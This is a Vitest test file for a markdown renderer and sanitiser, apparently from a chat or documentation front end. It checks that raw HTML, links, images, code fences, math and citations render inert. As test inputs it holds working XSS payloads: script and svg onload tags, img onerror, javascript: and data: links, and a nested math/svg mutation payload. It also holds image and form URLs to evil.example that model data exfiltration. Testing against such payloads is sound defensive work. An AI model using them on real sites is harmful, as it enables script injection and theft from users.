import { describe, expect, it } from 'vitest'

import { outline, renderMarkdown, sanitise } from '@/composables/markdown'

/** The document that a text becomes: what a browser would build from it. */
function build(text: string, cited: number[] = []): HTMLElement {
  const root = document.createElement('div')
  for (const block of renderMarkdown(text, new Set(cited))) if (block.kind === 'html') root.insertAdjacentHTML('beforeend', block.html)
  return root
}

const FORBIDDEN = 'script, svg, iframe, form, style, img, object, embed, link, meta, base, video, audio, input, math'

function expectInert(root: HTMLElement): void {
  expect(root.querySelector(FORBIDDEN)).toBeNull()
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^src/)
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|#|\/(?!\/)|[\w.-])/)
      expect(value).not.toMatch(/^\s*(javascript|vbscript|data):/i)
    }
  }
}

describe('raw HTML', () => {
  it.each([
    '<script>alert(1)</script>',
    '<svg onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=a></form>',
    '<style>@import "https://evil.example/x.css"</style>',
    '<a href=javascript:alert(1)>x</a>',
    '<img src=x onerror=alert(1)>',
    '<img srcset="https://evil.example/1.png 1x">',
    '<div style="background:url(https://evil.example)">x</div>',
    '<math><mtext></mtext><mglyph><svg><style><img src=x onerror=alert(1)></style></svg></mglyph></math>',
  ])('%s stays text', (attack) => {
    const root = build(`before\n\n${attack}\n\nafter ${attack}`)
    expectInert(root)
    expect(root.textContent).toContain(attack.slice(0, 4))
  })
})

describe('links', () => {
  it.each(['[x](javascript:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)', '[x](vbscript:x)', '[x](JaVaScRiPt:alert(1))', '[x](&#106;avascript:alert(1))', '[x](//evil.example)'])(
    '%s leads nowhere',
    (attack) => {
      const root = build(attack)
      expectInert(root)
      expect(root.querySelector('a[href*="script"], a[href^="data"], a[href^="//"]')).toBeNull()
    },
  )

  it('show their whole address and tell nobody where they came from', () => {
    const link = build('[docs](https://example.org/a?b=c)').querySelector('a')
    expect(link?.title).toBe('https://example.org/a?b=c')
    expect(link?.rel).toContain('noreferrer')
  })
})

describe('pictures', () => {
  it.each(['![a](https://evil.example/?d=CANARY)', '![a][r]\n\n[r]: https://evil.example/?d=CANARY', '![a](data:image/svg+xml;base64,PHN2Zz4=)', '![a](//evil.example/x.png)'])(
    '%s is never fetched',
    (attack) => expectInert(build(attack)),
  )

  it('become links that only a click follows', () => {
    expect(build('![chart](https://example.org/c.png)').querySelector('a')?.textContent).toBe('chart')
  })
})

describe('code fences', () => {
  it('keep an attack in the info string out of the page', () => {
    const [block] = renderMarkdown('```"><img src=x onerror=alert(1)>\ncode\n```')
    expect(block).toEqual({ kind: 'code', code: 'code', language: '', file: '' })
  })

  it('stay text, whatever they hold', () => {
    const [block] = renderMarkdown('```html\n<script>alert(1)</script>\n```')
    expect(block).toMatchObject({ kind: 'code', language: 'html', code: '<script>alert(1)</script>' })
  })

  it('name their file where the info string does', () => {
    expect(renderMarkdown('```python title="app/main.py"\nx\n```')[0]).toMatchObject({ language: 'python', file: 'app/main.py' })
  })

  it('with mathematics are text', () => {
    expectInert(build('$\\href{javascript:alert(1)}{x}$ and $$\\href{javascript:alert(1)}{x}$$'))
  })
})

describe('citations', () => {
  it('become numerals only where there is a source', () => {
    const root = build('Claim [1]. Other [7].', [1])
    expect([...root.querySelectorAll('[data-cite]')].map((cite) => cite.textContent)).toEqual(['1'])
    expect(root.textContent).toContain('[7]')
  })

  it('side by side are all found', () => {
    expect(build('Claim [1][2] [3]', [1, 2, 3]).querySelectorAll('[data-cite]')).toHaveLength(3)
  })

  it('are not made in code or links', () => {
    expect(build('`a[1]` and [see [1] there](https://example.org)', [1]).querySelectorAll('[data-cite]')).toHaveLength(0)
  })
})

describe('text', () => {
  it('sets emphasis that ends before a Korean particle', () => {
    expect(build('**`Task.retry`**입니다').querySelector('strong')?.textContent).toBe('Task.retry')
  })

  it('gives headings distinct anchors that the outline knows', () => {
    const text = '# 개요\n\n## Use\n\n## Use'
    const ids = [...build(text).querySelectorAll('h1, h2')].map(({ id }) => id)
    expect(ids).toEqual(outline(text).map(({ id }) => id))
    expect(new Set(ids).size).toBe(3)
  })

  it('keeps the blocks before the end of a growing text as they are', () => {
    const early = renderMarkdown('One.\n\nTwo')
    const late = renderMarkdown('One.\n\nTwo, and more.')
    expect(late[0]).toEqual(early[0])
  })
})

it('sanitises what anything else hands it', () => {
  expect(sanitise('<a href="https://x.org" onclick="y()">z</a><script>1</script>')).toBe('<a href="https://x.org">z</a>')
})
